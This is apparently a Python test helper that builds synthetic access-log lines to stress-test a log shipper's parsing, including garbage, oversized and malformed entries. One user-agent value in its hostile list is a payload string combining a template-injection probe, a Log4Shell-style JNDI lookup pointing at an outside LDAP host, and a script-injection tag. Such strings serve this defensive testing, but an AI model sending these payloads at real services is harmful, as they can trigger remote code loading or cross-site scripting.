"""The lines that the torture test writes: no two alike, most of them ordinary, some hostile."""

import random
from datetime import UTC, datetime

COMPARED = 500_000
"""Characters of a line that are compared: the shipper keeps a longer one in part, and says so."""

REFUSED = "refused.example"
"""A client of this name is refused by the torture's own mapping, for good: its lines belong into the dead letters."""

_AGENTS = (
    b"Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
    b"Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 Mobile/15E148 Safari/604.1",
    b"python-requests/2.32.3",
    b"-",
)
_HOSTILE = (
    b"caf\xe9 \xff\xfe",  # not UTF-8
    "smörgåsbord \u2028 \U0001f40d".encode(),
    b"a\x00b\x00",
    b"\x1b[31mred\x07\t\x7f",
    b"\\x22quoted\\x22 \\",
    b"{{7*7}}${jndi:ldap://192.0.2.1/a} <script>alert(1)</script>",
)
_ENDS = (b"\n", b"\n", b"\n", b"\r\n")
_REFUSED_FROM, _REFUSED_TO = 0.07, 0.075
_LONG, _HUGE = 10_000, 1_200_000


def make_line(path: str, dice: random.Random, *, hostile: bool = True, garbage: bool = True) -> bytes:
    """Return a line with its end.

    Args:
        path: The path of the request; it makes the line one of its kind.
        dice: Decides on the rest.
        hostile: Whether it may hold what breaks parsers.
        garbage: Whether it may be no log line at all.
    """
    kind = dice.random() if hostile else 1.0
    if kind < 0.01 and garbage:
        return b"\x16\x03\x01\x02 no request " + path.encode() + b" \x00\xff\n"
    agent, query = dice.choice(_AGENTS), f"?q={dice.randrange(1_000)}".encode()
    if kind < 0.05:
        agent = dice.choice(_HOSTILE).rstrip(b"\\")
    elif kind < 0.06:
        query = b"?" + b"A" * _LONG
    elif kind < 0.0602:
        query = b"?" + b"B" * _HUGE
    when = datetime.now(UTC).strftime("%d/%b/%Y:%H:%M:%S +0000")
    address = f"198.51.100.{dice.randrange(1, 255)}" if dice.random() < 0.8 else f"2001:db8::{dice.randrange(65_536):x}"
    address = REFUSED if _REFUSED_FROM < kind < _REFUSED_TO and garbage else address
    head = f'{address} - - [{when}] "{dice.choice(("GET", "GET", "POST"))} {path}'.encode()
    result = f' HTTP/1.1" {dice.choice((200, 200, 304, 404))} {dice.randrange(90_000)} "-" "'.encode()
    return head + query + result + agent + b'"' + (dice.choice(_ENDS) if hostile else b"\n")


def as_indexed(line: bytes) -> str:
    r"""Return what `event.original` holds of a line: bytes that are no UTF-8 as ``\xNN``, and no line end."""
    return line.removesuffix(b"\n").decode("utf-8", "backslashreplace").removesuffix("\r")[:COMPARED]
